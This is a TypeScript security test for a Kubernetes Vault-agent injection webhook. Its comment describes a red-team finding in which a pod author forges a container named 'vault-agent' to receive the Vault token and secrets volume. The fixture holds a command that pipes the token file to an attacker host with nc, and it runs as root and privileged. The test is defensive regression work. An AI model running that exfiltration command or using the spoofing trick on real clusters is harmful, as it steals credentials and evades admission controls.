import type { V1Container, V1Pod } from '@kubernetes/client-node';
import { describe, expect, it } from 'vitest';
import { defaultMutateConfig, type MutateConfig, mutate } from '../../src/webhook/mutate.js';
import { applyPatch, loadPod } from '../webhook/support.js';

// Red team, session 9c: a container the pod author names `vault-agent` is taken for the
// injected agent.
//
// Attack: the pod author adds an init container named `vault-agent` (native sidecars, 1.29+),
// or on older clusters an init container `vault-agent-init` and a container `vault-agent`,
// with an image, command, env and securityContext of their choice (root, privileged, its
// own VAULT_AGENT_CONFIG / VAULT_ADDR). The webhook's reinvocation check is by name only: it
// sees "its" agent, adds none, still mounts the secrets volume read-write and the projected
// Vault token into that container (the author simply lists them), marks the pod `injected`
// and admits it.
//
// Impact: everything the webhook is meant to fix about the agent (its image, its hardened
// securityContext: non-root, no privilege escalation, read-only root, capabilities dropped;
// its configuration and Vault address) is overridden from the pod spec, while the pod carries
// `vault.ghoststack.io/status: injected` and looks injected to anyone auditing it. Whatever
// runs as "the agent" holds the Vault token and a writable secrets volume; a cluster relying on
// the webhook to control what runs with the `vault` audience token does not.
//
// Fix: a container with the agent's name that the webhook did not produce is refused (on
// CREATE there can be no earlier pass without the status annotation, and on reinvocation the
// existing agent must still match what the webhook would add: image, args, securityContext).

const config: MutateConfig = defaultMutateConfig({
  agentImage: 'ghcr.io/ghoststack/vault:0.1.0',
  vaultAddr: 'https://vault.vault-system.svc:8200',
});
const legacy: MutateConfig = { ...config, serverVersion: { major: 1, minor: 28 } };

const forged = (name: string): V1Container => ({
  name,
  image: 'registry.example/attacker/agent:latest',
  command: ['/bin/sh', '-c', 'cat /var/run/secrets/vault.ghoststack.io/token | nc attacker 9 ; sleep inf'],
  restartPolicy: name === 'vault-agent' ? 'Always' : undefined,
  env: [{ name: 'VAULT_ADDR', value: 'https://attacker.example' }],
  securityContext: { runAsUser: 0, privileged: true, allowPrivilegeEscalation: true },
  volumeMounts: [
    { name: 'vault-secrets', mountPath: '/vault/secrets' },
    { name: 'vault-token', mountPath: '/var/run/secrets/vault.ghoststack.io', readOnly: true },
  ],
});

/** Every agent container of the admitted pod (none when refused). */
function agentsOfAdmitted(pod: V1Pod, cfg: MutateConfig): V1Container[] {
  const result = mutate(pod, cfg);
  if (!result.allowed) return [];
  const patched = applyPatch(pod, result.patch);
  return [...(patched.spec?.initContainers ?? []), ...(patched.spec?.containers ?? [])].filter(
    (c) => c.name === 'vault-agent' || c.name === 'vault-agent-init',
  );
}

const hardened = (c: V1Container) => ({
  image: c.image,
  command: c.command,
  runAsNonRoot: c.securityContext?.runAsNonRoot,
  privileged: c.securityContext?.privileged,
  allowPrivilegeEscalation: c.securityContext?.allowPrivilegeEscalation,
});
const expected = {
  image: config.agentImage,
  command: undefined,
  runAsNonRoot: true,
  privileged: false,
  allowPrivilegeEscalation: false,
};

describe('webhook: the agent is always the one the webhook builds', () => {
  it('a user init container named vault-agent (native sidecars) is refused or replaced', () => {
    const pod = loadPod('basic');
    pod.spec!.initContainers = [forged('vault-agent')];
    for (const agent of agentsOfAdmitted(pod, config)) expect(hardened(agent)).toEqual(expected);
  });

  it('user containers named vault-agent-init and vault-agent (older clusters) are refused or replaced', () => {
    const pod = loadPod('basic');
    pod.spec!.initContainers = [forged('vault-agent-init')];
    pod.spec!.containers.push(forged('vault-agent'));
    for (const agent of agentsOfAdmitted(pod, legacy)) expect(hardened(agent)).toEqual(expected);
  });
});
